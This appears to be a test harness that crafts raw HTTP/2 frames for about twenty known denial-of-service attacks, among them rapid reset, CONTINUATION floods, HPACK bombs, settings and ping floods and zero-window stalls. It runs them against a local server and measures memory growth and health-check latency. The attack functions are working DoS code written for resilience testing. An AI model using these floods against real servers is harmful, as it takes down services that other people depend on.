"""Known ways to hurt an HTTP/2 server: the tests run each for a moment, tools/soak for a minute."""

import itertools
import pathlib
import ssl
import statistics
import struct
import threading
import time

import hpack

from floods import connected

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ENHANCE_YOUR_CALM = 0xB
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
LARGEST_WINDOW = 2 ** 31 - 1


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", name, value) for name, value in pairs))


def window_update(stream, more):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", more))


def reset(stream, code=8):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", code))


class Peer:
    """A TLS connection that negotiated h2, and writes frames by hand."""

    def __init__(self, port, pairs=(), name="localhost"):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        self.socket = context.wrap_socket(connected(port), server_hostname=name)
        assert self.socket.selected_alpn_protocol() == "h2"
        self.encoder = hpack.Encoder()
        self.stream = -1
        self.received = b""
        self.closed = False
        self.goaway = None
        self.resets = 0
        self.socket.sendall(PREFACE + settings(*pairs))

    def next(self):
        self.stream += 2
        return self.stream

    def head(self, path="/healthz", more=(), method="GET"):
        return self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", "localhost"), (":path", path), *more])

    def request(self, path="/healthz", more=(), end=True, method="GET"):
        return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), self.next(), self.head(path, more, method))

    def send(self, data):
        """False once the server has closed it."""
        if self.closed:
            return False
        try:
            self.socket.settimeout(5)
            self.socket.sendall(data)
        except (OSError, ValueError):
            self.closed = True
        return not self.closed

    def listen(self, seconds=0.0):
        """Reads what has arrived; acknowledges nothing."""
        until = time.monotonic() + seconds
        while not self.closed:
            try:
                self.socket.settimeout(max(0.001, until - time.monotonic()))
                data = self.socket.recv(65536)
            except (TimeoutError, ssl.SSLWantReadError):
                return
            except (OSError, ValueError):
                data = b""
            if not data:
                self.closed = True
                return
            self.received += data
            while len(self.received) >= 9:
                length = int.from_bytes(self.received[:3], "big")
                if len(self.received) < 9 + length:
                    break
                kind, payload = self.received[3], self.received[9:9 + length]
                self.received = self.received[9 + length:]
                if kind == GOAWAY:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                self.resets += kind == RST_STREAM
            if time.monotonic() > until:
                return


def repeat(peer, make, until, listening=True):
    """At least so often that it is an attack, however busy the machine is."""
    rounds = 0
    while (time.monotonic() < until or rounds < 15) and peer.send(make()):
        rounds += 1
        if listening:
            peer.listen()


def rapid_reset(port, until):
    peer = Peer(port)
    repeat(peer, lambda: b"".join(peer.request() + reset(peer.stream) for _ in range(50)), until)
    return peer


def made_you_reset(port, until):
    """Each request gets a window that overflows, which the server has to answer with a reset."""
    peer = Peer(port)
    repeat(peer, lambda: b"".join(peer.request() + window_update(peer.stream, LARGEST_WINDOW) for _ in range(50)), until)
    return peer


def continuation_flood(port, until):
    """A header block that doesn't end."""
    peer = Peer(port)
    peer.send(frame(HEADERS, END_STREAM, peer.next(), peer.head()))
    repeat(peer, lambda: frame(CONTINUATION, 0, peer.stream, peer.encoder.encode([("x-a", "b" * 1000)])), until)
    return peer


def empty_continuations(port, until):
    peer = Peer(port)
    peer.send(frame(HEADERS, END_STREAM, peer.next(), peer.head()))
    repeat(peer, lambda: frame(CONTINUATION, 0, peer.stream) * 100, until)
    return peer


def settings_flood(port, until):
    peer = Peer(port)
    repeat(peer, lambda: settings() * 200, until)
    return peer


def settings_flips(port, until):
    """Each change of the initial window concerns all open streams."""
    peer = Peer(port, [(INITIAL_WINDOW_SIZE, 0)])
    peer.send(b"".join(peer.request("/") for _ in range(90)))
    sizes = itertools.cycle((0, 1))
    repeat(peer, lambda: b"".join(settings((INITIAL_WINDOW_SIZE, next(sizes))) for _ in range(200)), until)
    return peer


def ping_flood(port, until):
    peer = Peer(port)
    repeat(peer, lambda: frame(PING, 0, 0, b"12345678") * 200, until)
    return peer


def deaf_ping_flood(port, until):
    """Never reads the replies."""
    peer = Peer(port)
    repeat(peer, lambda: frame(PING, 0, 0, b"12345678") * 200, until, listening=False)
    peer.listen(0.1)
    return peer


def empty_data(port, until):
    peer = Peer(port)
    peer.send(peer.request("/api/v1/sessions", [("content-type", "application/json"), ("content-length", "9000")], end=False, method="POST"))
    repeat(peer, lambda: frame(DATA, 0, peer.stream) * 200, until)
    return peer


def padded_data(port, until):
    """Frames that have nothing but padding."""
    peer = Peer(port)
    peer.send(peer.request("/api/v1/sessions", [("content-type", "application/json"), ("content-length", "9000")], end=False, method="POST"))
    repeat(peer, lambda: frame(DATA, 0x8, peer.stream, b"\x05" + bytes(5)) * 200, until)
    return peer


def priority_flood(port, until):
    peer = Peer(port)
    repeat(peer, lambda: frame(PRIORITY, 0, 2 ** 20 + 1, struct.pack(">IB", 0, 1)) * 200, until)
    return peer


def unknown_frames(port, until):
    peer = Peer(port)
    repeat(peer, lambda: frame(0x77, 0, 0, b"x") * 200, until)
    return peer


def window_dribble(port, until):
    """Opens the window byte by byte for a response that doesn't need it."""
    peer = Peer(port)
    repeat(peer, lambda: window_update(0, 1) * 200, until)
    return peer


def hpack_bomb(port, until):
    """One large entry in the table, then references of one byte each."""
    peer = Peer(port)
    block = peer.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/healthz"), ("cookie", "x" * 3000)])
    bomb = block + b"\xbe" * (16384 - len(block))  # the newest entry: index 62
    repeat(peer, lambda: frame(HEADERS, END_HEADERS | END_STREAM, peer.next(), bomb), until)
    return peer


def http2_bomb(port, until):
    """Requests whose fields are held because the window for their responses is never opened."""
    peer = Peer(port, [(INITIAL_WINDOW_SIZE, 0)])
    crumbs = [("cookie", "x" * 3000)] * 20
    repeat(peer, lambda: peer.request("/", crumbs), until)
    return peer


def closed_windows(port, until):
    """Asks for as much as it may, and takes none of it."""
    peer = Peer(port, [(INITIAL_WINDOW_SIZE, 0)])
    repeat(peer, lambda: b"".join(peer.request("/") for _ in range(20)), until)
    return peer


def tiny_windows(port, until):
    """Takes a byte at a time."""
    peer = Peer(port, [(INITIAL_WINDOW_SIZE, 1)])
    peer.send(b"".join(peer.request("/") for _ in range(50)))
    streams = range(1, 101, 2)
    repeat(peer, lambda: b"".join(window_update(stream, 1) for stream in streams), until)
    return peer


def deaf_requests(port, until):
    """Asks again and again, and reads nothing, not even resets."""
    peer = Peer(port)
    repeat(peer, lambda: b"".join(peer.request("/") for _ in range(20)), until, listening=False)
    return peer


def unread_bodies(port, until):
    """Bodies that no handler reads."""
    peer = Peer(port)
    repeat(peer, lambda: peer.request("/healthz", end=False, method="POST") + frame(DATA, 0, peer.stream, bytes(16000)), until)
    return peer


def many_fields(port, until):
    peer = Peer(port)
    fields = [(f"x-{number}", "y") for number in range(500)]
    repeat(peer, lambda: peer.request("/", fields), until)
    return peer


#: The name of each attack; whether the server has to end its connections.
ATTACKS = {rapid_reset: True, made_you_reset: True, continuation_flood: True, empty_continuations: True, settings_flood: True, settings_flips: True,
           ping_flood: True, deaf_ping_flood: True, empty_data: True, padded_data: True, priority_flood: False, unknown_frames: False,
           window_dribble: True, hpack_bomb: True, http2_bomb: False, closed_windows: False, tiny_windows: False, deaf_requests: False,
           unread_bodies: False, many_fields: False}


def resident(pid):
    """Bytes."""
    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError("no such process")


def attack(kind, server, seconds, connections):
    """Runs an attack and returns the growth of the server's memory in bytes, its peers, and how many others were served meanwhile."""
    import requests
    before = resident(server.process.pid)
    until = time.monotonic() + seconds
    peers, failures = [], []

    def work():
        while True:
            try:
                peers.append(kind(server.https_port, until))
            except (OSError, AssertionError) as error:
                failures.append(error)
            if time.monotonic() >= until:
                return

    threads = [threading.Thread(target=work, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    served, times, largest = 0, [], before
    while time.monotonic() < until or served == 0:
        began = time.monotonic()
        assert requests.get(server.origin + "/healthz", verify=server.authority, timeout=60).status_code == 200
        times.append(time.monotonic() - began)
        served += 1
        largest = max(largest, resident(server.process.pid))
    for thread in threads:
        thread.join()
    largest = max(largest, resident(server.process.pid))
    return largest - before, peers, statistics.median(times)
